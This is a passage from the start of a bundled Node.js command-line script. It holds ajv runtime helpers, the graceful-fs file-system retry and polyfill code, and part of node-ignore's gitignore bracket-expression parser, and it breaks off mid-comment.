#!/usr/bin/env node
import { createRequire as __WEBPACK_EXTERNAL_createRequire } from "module";
/******/ var __webpack_modules__ = ({

/***/ 4951:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
// https://github.com/ajv-validator/ajv/issues/889
const equal = __nccwpck_require__(3430);
equal.code = 'require("ajv/dist/runtime/equal").default';
exports["default"] = equal;
//# sourceMappingURL=equal.js.map

/***/ }),

/***/ 6214:
/***/ ((__unused_webpack_module, exports) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
// https://mathiasbynens.be/notes/javascript-encoding
// https://github.com/bestiejs/punycode.js - punycode.ucs2.decode
function ucs2length(str) {
    const len = str.length;
    let length = 0;
    let pos = 0;
    let value;
    while (pos < len) {
        length++;
        value = str.charCodeAt(pos++);
        if (value >= 0xd800 && value <= 0xdbff && pos < len) {
            // high surrogate, and there is a next character
            value = str.charCodeAt(pos);
            if ((value & 0xfc00) === 0xdc00)
                pos++; // low surrogate
        }
    }
    return length;
}
exports["default"] = ucs2length;
ucs2length.code = 'require("ajv/dist/runtime/ucs2length").default';
//# sourceMappingURL=ucs2length.js.map

/***/ }),

/***/ 3430:
/***/ ((module) => {



// do not edit .js files directly - edit src/index.jst



module.exports = function equal(a, b) {
  if (a === b) return true;

  if (a && b && typeof a == 'object' && typeof b == 'object') {
    if (a.constructor !== b.constructor) return false;

    var length, i, keys;
    if (Array.isArray(a)) {
      length = a.length;
      if (length != b.length) return false;
      for (i = length; i-- !== 0;)
        if (!equal(a[i], b[i])) return false;
      return true;
    }



    if (a.constructor === RegExp) return a.source === b.source && a.flags === b.flags;
    if (a.valueOf !== Object.prototype.valueOf) return a.valueOf() === b.valueOf();
    if (a.toString !== Object.prototype.toString) return a.toString() === b.toString();

    keys = Object.keys(a);
    length = keys.length;
    if (length !== Object.keys(b).length) return false;

    for (i = length; i-- !== 0;)
      if (!Object.prototype.hasOwnProperty.call(b, keys[i])) return false;

    for (i = length; i-- !== 0;) {
      var key = keys[i];

      if (!equal(a[key], b[key])) return false;
    }

    return true;
  }

  // true if both NaN, false otherwise
  return a!==a && b!==b;
};


/***/ }),

/***/ 3964:
/***/ ((module) => {



module.exports = clone

var getPrototypeOf = Object.getPrototypeOf || function (obj) {
  return obj.__proto__
}

function clone (obj) {
  if (obj === null || typeof obj !== 'object')
    return obj

  if (obj instanceof Object)
    var copy = { __proto__: getPrototypeOf(obj) }
  else
    var copy = Object.create(null)

  Object.getOwnPropertyNames(obj).forEach(function (key) {
    Object.defineProperty(copy, key, Object.getOwnPropertyDescriptor(obj, key))
  })

  return copy
}


/***/ }),

/***/ 5744:
/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {

var fs = __nccwpck_require__(9896)
var polyfills = __nccwpck_require__(3501)
var legacy = __nccwpck_require__(2270)
var clone = __nccwpck_require__(3964)

var util = __nccwpck_require__(9023)

/* istanbul ignore next - node 0.x polyfill */
var gracefulQueue
var previousSymbol

/* istanbul ignore else - node 0.x polyfill */
if (typeof Symbol === 'function' && typeof Symbol.for === 'function') {
  gracefulQueue = Symbol.for('graceful-fs.queue')
  // This is used in testing by future versions
  previousSymbol = Symbol.for('graceful-fs.previous')
} else {
  gracefulQueue = '___graceful-fs.queue'
  previousSymbol = '___graceful-fs.previous'
}

function noop () {}

function publishQueue(context, queue) {
  Object.defineProperty(context, gracefulQueue, {
    get: function() {
      return queue
    }
  })
}

var debug = noop
if (util.debuglog)
  debug = util.debuglog('gfs4')
else if (/\bgfs4\b/i.test(process.env.NODE_DEBUG || ''))
  debug = function() {
    var m = util.format.apply(util, arguments)
    m = 'GFS4: ' + m.split(/\n/).join('\nGFS4: ')
    console.error(m)
  }

// Once time initialization
if (!fs[gracefulQueue]) {
  // This queue can be shared by multiple loaded instances
  var queue = global[gracefulQueue] || []
  publishQueue(fs, queue)

  // Patch fs.close/closeSync to shared queue version, because we need
  // to retry() whenever a close happens *anywhere* in the program.
  // This is essential when multiple graceful-fs instances are
  // in play at the same time.
  fs.close = (function (fs$close) {
    function close (fd, cb) {
      return fs$close.call(fs, fd, function (err) {
        // This function uses the graceful-fs shared queue
        if (!err) {
          resetQueue()
        }

        if (typeof cb === 'function')
          cb.apply(this, arguments)
      })
    }

    Object.defineProperty(close, previousSymbol, {
      value: fs$close
    })
    return close
  })(fs.close)

  fs.closeSync = (function (fs$closeSync) {
    function closeSync (fd) {
      // This function uses the graceful-fs shared queue
      fs$closeSync.apply(fs, arguments)
      resetQueue()
    }

    Object.defineProperty(closeSync, previousSymbol, {
      value: fs$closeSync
    })
    return closeSync
  })(fs.closeSync)

  if (/\bgfs4\b/i.test(process.env.NODE_DEBUG || '')) {
    process.on('exit', function() {
      debug(fs[gracefulQueue])
      __nccwpck_require__(2613).equal(fs[gracefulQueue].length, 0)
    })
  }
}

if (!global[gracefulQueue]) {
  publishQueue(global, fs[gracefulQueue]);
}

module.exports = patch(clone(fs))
if (process.env.TEST_GRACEFUL_FS_GLOBAL_PATCH && !fs.__patched) {
    module.exports = patch(fs)
    fs.__patched = true;
}

function patch (fs) {
  // Everything that references the open() function needs to be in here
  polyfills(fs)
  fs.gracefulify = patch

  fs.createReadStream = createReadStream
  fs.createWriteStream = createWriteStream
  var fs$readFile = fs.readFile
  fs.readFile = readFile
  function readFile (path, options, cb) {
    if (typeof options === 'function')
      cb = options, options = null

    return go$readFile(path, options, cb)

    function go$readFile (path, options, cb, startTime) {
      return fs$readFile(path, options, function (err) {
        if (err && (err.code === 'EMFILE' || err.code === 'ENFILE'))
          enqueue([go$readFile, [path, options, cb], err, startTime || Date.now(), Date.now()])
        else {
          if (typeof cb === 'function')
            cb.apply(this, arguments)
        }
      })
    }
  }

  var fs$writeFile = fs.writeFile
  fs.writeFile = writeFile
  function writeFile (path, data, options, cb) {
    if (typeof options === 'function')
      cb = options, options = null

    return go$writeFile(path, data, options, cb)

    function go$writeFile (path, data, options, cb, startTime) {
      return fs$writeFile(path, data, options, function (err) {
        if (err && (err.code === 'EMFILE' || err.code === 'ENFILE'))
          enqueue([go$writeFile, [path, data, options, cb], err, startTime || Date.now(), Date.now()])
        else {
          if (typeof cb === 'function')
            cb.apply(this, arguments)
        }
      })
    }
  }

  var fs$appendFile = fs.appendFile
  if (fs$appendFile)
    fs.appendFile = appendFile
  function appendFile (path, data, options, cb) {
    if (typeof options === 'function')
      cb = options, options = null

    return go$appendFile(path, data, options, cb)

    function go$appendFile (path, data, options, cb, startTime) {
      return fs$appendFile(path, data, options, function (err) {
        if (err && (err.code === 'EMFILE' || err.code === 'ENFILE'))
          enqueue([go$appendFile, [path, data, options, cb], err, startTime || Date.now(), Date.now()])
        else {
          if (typeof cb === 'function')
            cb.apply(this, arguments)
        }
      })
    }
  }

  var fs$copyFile = fs.copyFile
  if (fs$copyFile)
    fs.copyFile = copyFile
  function copyFile (src, dest, flags, cb) {
    if (typeof flags === 'function') {
      cb = flags
      flags = 0
    }
    return go$copyFile(src, dest, flags, cb)

    function go$copyFile (src, dest, flags, cb, startTime) {
      return fs$copyFile(src, dest, flags, function (err) {
        if (err && (err.code === 'EMFILE' || err.code === 'ENFILE'))
          enqueue([go$copyFile, [src, dest, flags, cb], err, startTime || Date.now(), Date.now()])
        else {
          if (typeof cb === 'function')
            cb.apply(this, arguments)
        }
      })
    }
  }

  var fs$readdir = fs.readdir
  fs.readdir = readdir
  var noReaddirOptionVersions = /^v[0-5]\./
  function readdir (path, options, cb) {
    if (typeof options === 'function')
      cb = options, options = null

    var go$readdir = noReaddirOptionVersions.test(process.version)
      ? function go$readdir (path, options, cb, startTime) {
        return fs$readdir(path, fs$readdirCallback(
          path, options, cb, startTime
        ))
      }
      : function go$readdir (path, options, cb, startTime) {
        return fs$readdir(path, options, fs$readdirCallback(
          path, options, cb, startTime
        ))
      }

    return go$readdir(path, options, cb)

    function fs$readdirCallback (path, options, cb, startTime) {
      return function (err, files) {
        if (err && (err.code === 'EMFILE' || err.code === 'ENFILE'))
          enqueue([
            go$readdir,
            [path, options, cb],
            err,
            startTime || Date.now(),
            Date.now()
          ])
        else {
          if (files && files.sort)
            files.sort()

          if (typeof cb === 'function')
            cb.call(this, err, files)
        }
      }
    }
  }

  if (process.version.substr(0, 4) === 'v0.8') {
    var legStreams = legacy(fs)
    ReadStream = legStreams.ReadStream
    WriteStream = legStreams.WriteStream
  }

  var fs$ReadStream = fs.ReadStream
  if (fs$ReadStream) {
    ReadStream.prototype = Object.create(fs$ReadStream.prototype)
    ReadStream.prototype.open = ReadStream$open
  }

  var fs$WriteStream = fs.WriteStream
  if (fs$WriteStream) {
    WriteStream.prototype = Object.create(fs$WriteStream.prototype)
    WriteStream.prototype.open = WriteStream$open
  }

  Object.defineProperty(fs, 'ReadStream', {
    get: function () {
      return ReadStream
    },
    set: function (val) {
      ReadStream = val
    },
    enumerable: true,
    configurable: true
  })
  Object.defineProperty(fs, 'WriteStream', {
    get: function () {
      return WriteStream
    },
    set: function (val) {
      WriteStream = val
    },
    enumerable: true,
    configurable: true
  })

  // legacy names
  var FileReadStream = ReadStream
  Object.defineProperty(fs, 'FileReadStream', {
    get: function () {
      return FileReadStream
    },
    set: function (val) {
      FileReadStream = val
    },
    enumerable: true,
    configurable: true
  })
  var FileWriteStream = WriteStream
  Object.defineProperty(fs, 'FileWriteStream', {
    get: function () {
      return FileWriteStream
    },
    set: function (val) {
      FileWriteStream = val
    },
    enumerable: true,
    configurable: true
  })

  function ReadStream (path, options) {
    if (this instanceof ReadStream)
      return fs$ReadStream.apply(this, arguments), this
    else
      return ReadStream.apply(Object.create(ReadStream.prototype), arguments)
  }

  function ReadStream$open () {
    var that = this
    open(that.path, that.flags, that.mode, function (err, fd) {
      if (err) {
        if (that.autoClose)
          that.destroy()

        that.emit('error', err)
      } else {
        that.fd = fd
        that.emit('open', fd)
        that.read()
      }
    })
  }

  function WriteStream (path, options) {
    if (this instanceof WriteStream)
      return fs$WriteStream.apply(this, arguments), this
    else
      return WriteStream.apply(Object.create(WriteStream.prototype), arguments)
  }

  function WriteStream$open () {
    var that = this
    open(that.path, that.flags, that.mode, function (err, fd) {
      if (err) {
        that.destroy()
        that.emit('error', err)
      } else {
        that.fd = fd
        that.emit('open', fd)
      }
    })
  }

  function createReadStream (path, options) {
    return new fs.ReadStream(path, options)
  }

  function createWriteStream (path, options) {
    return new fs.WriteStream(path, options)
  }

  var fs$open = fs.open
  fs.open = open
  function open (path, flags, mode, cb) {
    if (typeof mode === 'function')
      cb = mode, mode = null

    return go$open(path, flags, mode, cb)

    function go$open (path, flags, mode, cb, startTime) {
      return fs$open(path, flags, mode, function (err, fd) {
        if (err && (err.code === 'EMFILE' || err.code === 'ENFILE'))
          enqueue([go$open, [path, flags, mode, cb], err, startTime || Date.now(), Date.now()])
        else {
          if (typeof cb === 'function')
            cb.apply(this, arguments)
        }
      })
    }
  }

  return fs
}

function enqueue (elem) {
  debug('ENQUEUE', elem[0].name, elem[1])
  fs[gracefulQueue].push(elem)
  retry()
}

// keep track of the timeout between retry() calls
var retryTimer

// reset the startTime and lastTime to now
// this resets the start of the 60 second overall timeout as well as the
// delay between attempts so that we'll retry these jobs sooner
function resetQueue () {
  var now = Date.now()
  for (var i = 0; i < fs[gracefulQueue].length; ++i) {
    // entries that are only a length of 2 are from an older version, don't
    // bother modifying those since they'll be retried anyway.
    if (fs[gracefulQueue][i].length > 2) {
      fs[gracefulQueue][i][3] = now // startTime
      fs[gracefulQueue][i][4] = now // lastTime
    }
  }
  // call retry to make sure we're actively processing the queue
  retry()
}

function retry () {
  // clear the timer and remove it to help prevent unintended concurrency
  clearTimeout(retryTimer)
  retryTimer = undefined

  if (fs[gracefulQueue].length === 0)
    return

  var elem = fs[gracefulQueue].shift()
  var fn = elem[0]
  var args = elem[1]
  // these items may be unset if they were added by an older graceful-fs
  var err = elem[2]
  var startTime = elem[3]
  var lastTime = elem[4]

  // if we don't have a startTime we have no way of knowing if we've waited
  // long enough, so go ahead and retry this item now
  if (startTime === undefined) {
    debug('RETRY', fn.name, args)
    fn.apply(null, args)
  } else if (Date.now() - startTime >= 60000) {
    // it's been more than 60 seconds total, bail now
    debug('TIMEOUT', fn.name, args)
    var cb = args.pop()
    if (typeof cb === 'function')
      cb.call(null, err)
  } else {
    // the amount of time between the last attempt and right now
    var sinceAttempt = Date.now() - lastTime
    // the amount of time between when we first tried, and when we last tried
    // rounded up to at least 1
    var sinceStart = Math.max(lastTime - startTime, 1)
    // backoff. wait longer than the total time we've been retrying, but only
    // up to a maximum of 100ms
    var desiredDelay = Math.min(sinceStart * 1.2, 100)
    // it's been long enough since the last retry, do it again
    if (sinceAttempt >= desiredDelay) {
      debug('RETRY', fn.name, args)
      fn.apply(null, args.concat([startTime]))
    } else {
      // if we can't do this job yet, push it to the end of the queue
      // and let the next iteration check again
      fs[gracefulQueue].push(elem)
    }
  }

  // schedule our next run if one isn't already scheduled
  if (retryTimer === undefined) {
    retryTimer = setTimeout(retry, 0)
  }
}


/***/ }),

/***/ 2270:
/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {

var Stream = (__nccwpck_require__(2203).Stream)

module.exports = legacy

function legacy (fs) {
  return {
    ReadStream: ReadStream,
    WriteStream: WriteStream
  }

  function ReadStream (path, options) {
    if (!(this instanceof ReadStream)) return new ReadStream(path, options);

    Stream.call(this);

    var self = this;

    this.path = path;
    this.fd = null;
    this.readable = true;
    this.paused = false;

    this.flags = 'r';
    this.mode = 438; /*=0666*/
    this.bufferSize = 64 * 1024;

    options = options || {};

    // Mixin options into this
    var keys = Object.keys(options);
    for (var index = 0, length = keys.length; index < length; index++) {
      var key = keys[index];
      this[key] = options[key];
    }

    if (this.encoding) this.setEncoding(this.encoding);

    if (this.start !== undefined) {
      if ('number' !== typeof this.start) {
        throw TypeError('start must be a Number');
      }
      if (this.end === undefined) {
        this.end = Infinity;
      } else if ('number' !== typeof this.end) {
        throw TypeError('end must be a Number');
      }

      if (this.start > this.end) {
        throw new Error('start must be <= end');
      }

      this.pos = this.start;
    }

    if (this.fd !== null) {
      process.nextTick(function() {
        self._read();
      });
      return;
    }

    fs.open(this.path, this.flags, this.mode, function (err, fd) {
      if (err) {
        self.emit('error', err);
        self.readable = false;
        return;
      }

      self.fd = fd;
      self.emit('open', fd);
      self._read();
    })
  }

  function WriteStream (path, options) {
    if (!(this instanceof WriteStream)) return new WriteStream(path, options);

    Stream.call(this);

    this.path = path;
    this.fd = null;
    this.writable = true;

    this.flags = 'w';
    this.encoding = 'binary';
    this.mode = 438; /*=0666*/
    this.bytesWritten = 0;

    options = options || {};

    // Mixin options into this
    var keys = Object.keys(options);
    for (var index = 0, length = keys.length; index < length; index++) {
      var key = keys[index];
      this[key] = options[key];
    }

    if (this.start !== undefined) {
      if ('number' !== typeof this.start) {
        throw TypeError('start must be a Number');
      }
      if (this.start < 0) {
        throw new Error('start must be >= zero');
      }

      this.pos = this.start;
    }

    this.busy = false;
    this._queue = [];

    if (this.fd === null) {
      this._open = fs.open;
      this._queue.push([this._open, this.path, this.flags, this.mode, undefined]);
      this.flush();
    }
  }
}


/***/ }),

/***/ 3501:
/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {

var constants = __nccwpck_require__(9140)

var origCwd = process.cwd
var cwd = null

var platform = process.env.GRACEFUL_FS_PLATFORM || process.platform

process.cwd = function() {
  if (!cwd)
    cwd = origCwd.call(process)
  return cwd
}
try {
  process.cwd()
} catch (er) {}

// This check is needed until node.js 12 is required
if (typeof process.chdir === 'function') {
  var chdir = process.chdir
  process.chdir = function (d) {
    cwd = null
    chdir.call(process, d)
  }
  if (Object.setPrototypeOf) Object.setPrototypeOf(process.chdir, chdir)
}

module.exports = patch

function patch (fs) {
  // (re-)implement some things that are known busted or missing.

  // lchmod, broken prior to 0.6.2
  // back-port the fix here.
  if (constants.hasOwnProperty('O_SYMLINK') &&
      process.version.match(/^v0\.6\.[0-2]|^v0\.5\./)) {
    patchLchmod(fs)
  }

  // lutimes implementation, or no-op
  if (!fs.lutimes) {
    patchLutimes(fs)
  }

  // https://github.com/isaacs/node-graceful-fs/issues/4
  // Chown should not fail on einval or eperm if non-root.
  // It should not fail on enosys ever, as this just indicates
  // that a fs doesn't support the intended operation.

  fs.chown = chownFix(fs.chown)
  fs.fchown = chownFix(fs.fchown)
  fs.lchown = chownFix(fs.lchown)

  fs.chmod = chmodFix(fs.chmod)
  fs.fchmod = chmodFix(fs.fchmod)
  fs.lchmod = chmodFix(fs.lchmod)

  fs.chownSync = chownFixSync(fs.chownSync)
  fs.fchownSync = chownFixSync(fs.fchownSync)
  fs.lchownSync = chownFixSync(fs.lchownSync)

  fs.chmodSync = chmodFixSync(fs.chmodSync)
  fs.fchmodSync = chmodFixSync(fs.fchmodSync)
  fs.lchmodSync = chmodFixSync(fs.lchmodSync)

  fs.stat = statFix(fs.stat)
  fs.fstat = statFix(fs.fstat)
  fs.lstat = statFix(fs.lstat)

  fs.statSync = statFixSync(fs.statSync)
  fs.fstatSync = statFixSync(fs.fstatSync)
  fs.lstatSync = statFixSync(fs.lstatSync)

  // if lchmod/lchown do not exist, then make them no-ops
  if (fs.chmod && !fs.lchmod) {
    fs.lchmod = function (path, mode, cb) {
      if (cb) process.nextTick(cb)
    }
    fs.lchmodSync = function () {}
  }
  if (fs.chown && !fs.lchown) {
    fs.lchown = function (path, uid, gid, cb) {
      if (cb) process.nextTick(cb)
    }
    fs.lchownSync = function () {}
  }

  // on Windows, A/V software can lock the directory, causing this
  // to fail with an EACCES or EPERM if the directory contains newly
  // created files.  Try again on failure, for up to 60 seconds.

  // Set the timeout this long because some Windows Anti-Virus, such as Parity
  // bit9, may lock files for up to a minute, causing npm package install
  // failures. Also, take care to yield the scheduler. Windows scheduling gives
  // CPU to a busy looping process, which can cause the program causing the lock
  // contention to be starved of CPU by node, so the contention doesn't resolve.
  if (platform === "win32") {
    fs.rename = typeof fs.rename !== 'function' ? fs.rename
    : (function (fs$rename) {
      function rename (from, to, cb) {
        var start = Date.now()
        var backoff = 0;
        fs$rename(from, to, function CB (er) {
          if (er
              && (er.code === "EACCES" || er.code === "EPERM" || er.code === "EBUSY")
              && Date.now() - start < 60000) {
            setTimeout(function() {
              fs.stat(to, function (stater, st) {
                if (stater && stater.code === "ENOENT")
                  fs$rename(from, to, CB);
                else
                  cb(er)
              })
            }, backoff)
            if (backoff < 100)
              backoff += 10;
            return;
          }
          if (cb) cb(er)
        })
      }
      if (Object.setPrototypeOf) Object.setPrototypeOf(rename, fs$rename)
      return rename
    })(fs.rename)
  }

  // if read() returns EAGAIN, then just try it again.
  fs.read = typeof fs.read !== 'function' ? fs.read
  : (function (fs$read) {
    function read (fd, buffer, offset, length, position, callback_) {
      var callback
      if (callback_ && typeof callback_ === 'function') {
        var eagCounter = 0
        callback = function (er, _, __) {
          if (er && er.code === 'EAGAIN' && eagCounter < 10) {
            eagCounter ++
            return fs$read.call(fs, fd, buffer, offset, length, position, callback)
          }
          callback_.apply(this, arguments)
        }
      }
      return fs$read.call(fs, fd, buffer, offset, length, position, callback)
    }

    // This ensures `util.promisify` works as it does for native `fs.read`.
    if (Object.setPrototypeOf) Object.setPrototypeOf(read, fs$read)
    return read
  })(fs.read)

  fs.readSync = typeof fs.readSync !== 'function' ? fs.readSync
  : (function (fs$readSync) { return function (fd, buffer, offset, length, position) {
    var eagCounter = 0
    while (true) {
      try {
        return fs$readSync.call(fs, fd, buffer, offset, length, position)
      } catch (er) {
        if (er.code === 'EAGAIN' && eagCounter < 10) {
          eagCounter ++
          continue
        }
        throw er
      }
    }
  }})(fs.readSync)

  function patchLchmod (fs) {
    fs.lchmod = function (path, mode, callback) {
      fs.open( path
             , constants.O_WRONLY | constants.O_SYMLINK
             , mode
             , function (err, fd) {
        if (err) {
          if (callback) callback(err)
          return
        }
        // prefer to return the chmod error, if one occurs,
        // but still try to close, and report closing errors if they occur.
        fs.fchmod(fd, mode, function (err) {
          fs.close(fd, function(err2) {
            if (callback) callback(err || err2)
          })
        })
      })
    }

    fs.lchmodSync = function (path, mode) {
      var fd = fs.openSync(path, constants.O_WRONLY | constants.O_SYMLINK, mode)

      // prefer to return the chmod error, if one occurs,
      // but still try to close, and report closing errors if they occur.
      var threw = true
      var ret
      try {
        ret = fs.fchmodSync(fd, mode)
        threw = false
      } finally {
        if (threw) {
          try {
            fs.closeSync(fd)
          } catch (er) {}
        } else {
          fs.closeSync(fd)
        }
      }
      return ret
    }
  }

  function patchLutimes (fs) {
    if (constants.hasOwnProperty("O_SYMLINK") && fs.futimes) {
      fs.lutimes = function (path, at, mt, cb) {
        fs.open(path, constants.O_SYMLINK, function (er, fd) {
          if (er) {
            if (cb) cb(er)
            return
          }
          fs.futimes(fd, at, mt, function (er) {
            fs.close(fd, function (er2) {
              if (cb) cb(er || er2)
            })
          })
        })
      }

      fs.lutimesSync = function (path, at, mt) {
        var fd = fs.openSync(path, constants.O_SYMLINK)
        var ret
        var threw = true
        try {
          ret = fs.futimesSync(fd, at, mt)
          threw = false
        } finally {
          if (threw) {
            try {
              fs.closeSync(fd)
            } catch (er) {}
          } else {
            fs.closeSync(fd)
          }
        }
        return ret
      }

    } else if (fs.futimes) {
      fs.lutimes = function (_a, _b, _c, cb) { if (cb) process.nextTick(cb) }
      fs.lutimesSync = function () {}
    }
  }

  function chmodFix (orig) {
    if (!orig) return orig
    return function (target, mode, cb) {
      return orig.call(fs, target, mode, function (er) {
        if (chownErOk(er)) er = null
        if (cb) cb.apply(this, arguments)
      })
    }
  }

  function chmodFixSync (orig) {
    if (!orig) return orig
    return function (target, mode) {
      try {
        return orig.call(fs, target, mode)
      } catch (er) {
        if (!chownErOk(er)) throw er
      }
    }
  }


  function chownFix (orig) {
    if (!orig) return orig
    return function (target, uid, gid, cb) {
      return orig.call(fs, target, uid, gid, function (er) {
        if (chownErOk(er)) er = null
        if (cb) cb.apply(this, arguments)
      })
    }
  }

  function chownFixSync (orig) {
    if (!orig) return orig
    return function (target, uid, gid) {
      try {
        return orig.call(fs, target, uid, gid)
      } catch (er) {
        if (!chownErOk(er)) throw er
      }
    }
  }

  function statFix (orig) {
    if (!orig) return orig
    // Older versions of Node erroneously returned signed integers for
    // uid + gid.
    return function (target, options, cb) {
      if (typeof options === 'function') {
        cb = options
        options = null
      }
      function callback (er, stats) {
        if (stats) {
          if (stats.uid < 0) stats.uid += 0x100000000
          if (stats.gid < 0) stats.gid += 0x100000000
        }
        if (cb) cb.apply(this, arguments)
      }
      return options ? orig.call(fs, target, options, callback)
        : orig.call(fs, target, callback)
    }
  }

  function statFixSync (orig) {
    if (!orig) return orig
    // Older versions of Node erroneously returned signed integers for
    // uid + gid.
    return function (target, options) {
      var stats = options ? orig.call(fs, target, options)
        : orig.call(fs, target)
      if (stats) {
        if (stats.uid < 0) stats.uid += 0x100000000
        if (stats.gid < 0) stats.gid += 0x100000000
      }
      return stats;
    }
  }

  // ENOSYS means that the fs doesn't support the op. Just ignore
  // that, because it doesn't matter.
  //
  // if there's no getuid, or if getuid() is something other
  // than 0, and the error is EINVAL or EPERM, then just ignore
  // it.
  //
  // This specific case is a silent failure in cp, install, tar,
  // and most other unix tools that manage permissions.
  //
  // When running as root, or if other types of errors are
  // encountered, then it's strict.
  function chownErOk (er) {
    if (!er)
      return true

    if (er.code === "ENOSYS")
      return true

    var nonroot = !process.getuid || process.getuid() !== 0
    if (nonroot) {
      if (er.code === "EINVAL" || er.code === "EPERM")
        return true
    }

    return false
  }
}


/***/ }),

/***/ 298:
/***/ ((module) => {

// A simple implementation of make-array
function makeArray (subject) {
  return Array.isArray(subject)
    ? subject
    : [subject]
}

const UNDEFINED = undefined
const EMPTY = ''
const SPACE = ' '
const ESCAPE = '\\'

// The characters that carry a meaning of their own inside a regular
//   expression, so a literal one has to be escaped before it is emitted.
const REGEX_LITERAL_SPECIAL = /[.*+?()[\]{}^$|\\/]/
const BOM = '\uFEFF'
// A run of two or more asterisks is a globstar (#175)
const REGEX_ANCHORED_GLOBSTAR = /^\/\*{2,}$/
const REGEX_REPLACE_LEADING_EXCAPED_EXCLAMATION = /^\\!/
const REGEX_REPLACE_LEADING_EXCAPED_HASH = /^\\#/
const REGEX_SPLITALL_CRLF = /\r?\n/g

// Invalid:
// - /foo,
// - ./foo,
// - ../foo,
// - .
// - ..
// Valid:
// - .foo
const DOUBLE_SLASH = '//'
const SLASH_CODE = 47
const DOT_CODE = 46


const SLASH = '/'

// Do not use ternary expression here, since "istanbul ignore next" is buggy
let TMP_KEY_IGNORE = 'node-ignore'
/* istanbul ignore else */
if (typeof Symbol !== 'undefined') {
  TMP_KEY_IGNORE = Symbol.for('node-ignore')
}
const KEY_IGNORE = TMP_KEY_IGNORE

const define = (object, key, value) => {
  Object.defineProperty(object, key, {value})
  return value
}

const RETURN_FALSE = () => false

// > The range notation, e.g. [a-zA-Z],
// > can be used to match one of the characters in a range.
//
// gitignore(5) defers to fnmatch(3) for this, and git implements it in
//   `wildmatch.c`.  A bracket expression has a sub-grammar of its own, which
//   is neither the surrounding pattern grammar nor the JavaScript one:
//
//   - a `]` right after `[` or `[!` is a literal member, not the terminator
//   - `[:alpha:]` names one of twelve POSIX classes
//   - `\` escapes the next member, `]` included
//   - `*`, `?` and `.` are plain literal members
//   - an unterminated expression makes the whole pattern match nothing
//
// which means the expression can not be located -- let alone translated -- by
//   a regular expression.  It is scanned out of the pattern before the
//   replacers below run, and put back once they are done, so that neither the
//   metacharacter escaper nor the `?` / `*` replacers ever see its body.

// git classifies with its own ASCII-only ctype macros (`wildmatch.c`), never
//   with the C library ones, so these must not be mapped onto `\d` / `\w` /
//   `\s`, which are wider.  `/` is left out of every expansion, because a
//   bracket expression never matches a path separator.
const POSIX_CLASSES = {
  alnum: '0-9A-Za-z',
  alpha: 'A-Za-z',
  blank: ' \\t',
  cntrl: '\\x00-\\x1f\\x7f',
  digit: '0-9',
  graph: '!-.0-~',
  lower: 'a-z',
  print: ' -.0-~',
  punct: '!-.:-@\\[-`{-~',
  // git's `sane-ctype.h` classifies \v and \f as control, not space,
  //   unlike C's `isspace`
  space: ' \\t\\n\\r',
  upper: 'A-Z',
  xdigit: '0-9A-Fa-f'
}

const CLASS_MEMBERS_TO_ESCAPE = '\\]^-['

const escapeMember = char => CLASS_MEMBERS_TO_ESCAPE.indexOf(char) < 0
  ? char
  : ESCAPE + char

// > if (matched == negated || ((flags & WM_PATHNAME) && text_ch == '/'))
// >   return WM_ABORT_TO_STARSTAR;                     (git, `wildmatch.c`)
// A bracket expression never matches a path separator, whatever its members
//   say, so a negated class gets `/` as one more excluded character, while a
//   plain one -- where a literal member or a range could still let `/` in --
//   is guarded with a lookahead, `/` being impossible to subtract from a
//   JavaScript character class.
const NON_SLASH = '(?!\\/)'

const classSource = (negated, body) => {
  if (negated) {
    return `[^\\/${body}]`
  }

  const source = `[${body}]`

  return new RegExp(source).test('/')
    ? NON_SLASH + source
    : source
}

// Scan the bracket expression that starts at `pattern[start] === '['`,
//   mirroring the member loop of git's `wildmatch.c`.
// @returns {{end: number, source: string} | null} `null` if the expression is
//   never terminated, which makes the whole pattern match nothing.
const scanBracket = (pattern, start) => {
  const {length} = pattern
  let index = start + 1
  let negated = EMPTY

  const lead = pattern[index]
  if (lead === '!' || lead === '^') {
    negated = '^'
    index ++
  }

  let body = EMPTY

  // The member a `-` could start a range from, or EMPTY when the previous
  //   member can not open one (start of the body, or a range / POSIX class
  //   that has just closed)
  let prev = EMPTY

  // git scans the members with a do-while, so the first one is consumed
  //   unconditionally.  That is the whole reason a leading `]` is a member
  //   and not the terminator.
  for (;;) {
    const char = pattern[index]

    if (char === UNDEFINED) {
      return null
    }

    if (char === ESCAPE) {
      // A pattern can not end on a lone backslash -- `createRule` has
      //   already thrown it away -- so there is a character to read.
      const escaped = pattern[++ index]
      body += escapeMember(escaped)
      prev = escaped
    } else if (
      char === '-'
      && prev
      && index + 1 < length
      && pattern[index + 1] !== ']'
    ) {
      index ++
      let to = pattern[index]
      if (to === ESCAPE) {
        to = pattern[index += 1]
      }
      // An out-of-order range matches nothing in git but is a syntax error in
      //   JavaScript, so it is dropped.  Its lower bound stays: git tests it
      //   as a plain member before it ever looks at the `-`, so `[c-a]` does
      //   match `c`.
      if (prev <= to) {
        body += `-${escapeMember(to)}`
      }
      prev = EMPTY
    } else if (char === '[' && pattern[index + 1] === ':') {
      const nameStart = index + 2
      let end = nameStart
      while (end < length && pattern[end] !== ']') {
        end ++
      }

      if (end === length) {
        return null
      }

      if (end > nameStart && pattern[end - 1] === ':') {
        const name = pattern.slice(nameStart, end - 1)

        // An unknown class name makes the whole pattern match nothing
        if (!Object.prototype.hasOwnProperty.call(POSIX_CLASSES, name)) {
          return null
        }

        body += POSIX_CLASSES[name]
        prev = EMPTY
        index = end
      } else {
        // No `:]` to close it, so the `[` is a plain member and scanning
        //   resumes right after it.
        body += escapeMember('[')
        prev = '['
        index = nameStart - 2
      }
    } else {
      body += escapeMember(char)
      prev = char
    }

    index ++

    if (pattern[index] === ']') {
      return {
        end: index,
        source: classSource(negated, body)
      }
    }
  }
}

// An empty JavaScript class can never match, which is how a pattern that git
//   gives up on (`WM_ABORT_ALL`) is expressed here.
const NEVER_MATCH = '[]'

// A NUL can appear in neither a `.gitignore` line nor a path, which makes it
//   the one safe placeholder character.  A literal one in the pattern is
//   held aside all the same, so a collision is impossible by construction.
const PLACEHOLDER = '\u0000'
const REGEX_RESTORE_PLACEHOLDER = new RegExp(
  `${PLACEHOLDER}(\\d+)${PLACEHOLDER}`, 'g'
)

// The one wildcard the chain does not expand for itself is a trailing `*`. How
//   it expands depends on the mode (`regex` vs `checkRegex`), so `_make` is
